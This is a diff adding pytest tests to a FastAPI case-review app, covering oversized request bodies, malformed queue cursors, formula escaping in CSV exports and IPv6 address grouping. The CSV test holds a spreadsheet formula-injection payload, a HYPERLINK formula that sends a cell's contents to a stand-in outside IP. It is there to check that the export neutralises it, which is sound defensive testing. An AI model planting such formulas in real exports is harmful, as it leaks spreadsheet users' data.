@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -11,7 +12,7 @@ import numpy as np
 import pyarrow.parquet as pq
 import pytest
 import sqlalchemy as sa
-from fastapi import FastAPI
+from fastapi import FastAPI, Request
 from fastapi.routing import APIRoute
 from fastapi.testclient import TestClient
 
@@ -22,10 +23,11 @@ from pipeline.cases.verdicts import get_case, give_verdict
 from pipeline.store.database import Store
 from pipeline.store.lake import Lake
 from pipeline.store.tables import Axis, Case
-from review.access import PUBLIC, Needs
+from review.access import PUBLIC, Needs, source_of
 from review.app import create_app
 from review.calibration import reliability
 from review.figures.signals import SCREEN_POINTS, envelope_of_points, highest_of_pieces
+from review.limits import MOST_BYTES
 from review.words import WORDS
 
 AT = datetime(2026, 3, 1, tzinfo=UTC)
@@ -353,3 +355,53 @@ def test_figures_of_a_channel_that_is_not_there_are_refused(app: FastAPI) -> Non
     assert browser.get("/api/v1/cases/case0000/figures").json()["recording"] is None
     answer = browser.get("/api/v1/cases/case0000/figures?channel=acc_z")
     assert (answer.status_code, "acc_z" in answer.json()["detail"]) == (404, True)
+
+
+@SQLITE
+@pytest.mark.parametrize("path", ["/login", "/api/v1/cases/case0000/comment", "/nowhere"])
+@pytest.mark.parametrize("declared", [True, False], ids=["with its length", "in pieces"])
+def test_a_body_that_is_too_long_is_refused_before_anybody_is_asked_who_sends_it(
+    app: FastAPI, path: str, declared: bool
+) -> None:
+    sent = 0
+
+    def pieces() -> Iterator[bytes]:
+        nonlocal sent
+        for _ in range(10_000):
+            sent += 64 * 1024
+            yield b"x" * 64 * 1024
+
+    body = b"x" * (MOST_BYTES + 1) if declared else pieces()
+    answer = client(app).post(path, content=body, headers={"Content-Type": "application/json"})
+    assert (answer.status_code, "256 kB" in answer.json()["detail"]) == (413, True)
+    longest = {"text": "y" * 4000}
+    assert client(app, "reviewer").post("/api/v1/cases/case0000/comment", json=longest).status_code == 200
+
+
+@SQLITE
+@pytest.mark.parametrize("after", ["1~0001-01-01T00:00:00+14:00~x", "nan~2026-01-01T00:00:00+00:00~x", "x" * 9000])
+def test_an_impossible_place_in_the_queue_is_refused(app: FastAPI, after: str) -> None:
+    for path in ("/", "/api/v1/cases"):
+        answer = client(app, "viewer").get(path, params={"after": after})
+        assert answer.status_code == 409
+        assert len(answer.text) < 20_000
+
+
+def test_an_exported_csv_runs_nothing_in_a_spreadsheet(app: FastAPI) -> None:
+    note = '=HYPERLINK("http://192.0.2.1/?"&A1)'
+    finding = {"verdict": "fault", "evidence": "inspected", "note": note}
+    give_verdict(app.state.store, "case0000", finding, who="@mara", at=AT, period_hours=1.0)
+    rows = list(csv.DictReader(io.StringIO(client(app, "viewer").get("/api/v1/export/labels.csv").text)))
+    assert (rows[0]["note"], rows[0]["who"]) == (f"'{note}", "'@mara")
+    table = pq.read_table(io.BytesIO(client(app, "viewer").get("/api/v1/export/labels.parquet").content))
+    assert table["note"].to_pylist() == [note]
+
+
+def test_addresses_are_told_apart_and_an_ipv6_customer_is_one() -> None:
+    def of(host: str | None) -> str:
+        return source_of(Request({"type": "http", "client": None if host is None else (host, 1), "headers": []}))
+
+    assert of("192.0.2.1") == "192.0.2.1"
+    assert of("2001:db8:1:2:3::4") == of("2001:db8:1:2:ffff::1") == "2001:db8:1:2::/64"
+    assert of("2001:db8:1:3::1") != of("2001:db8:1:2::1")
+    assert (of(None), of("testclient")) == ("", "testclient")
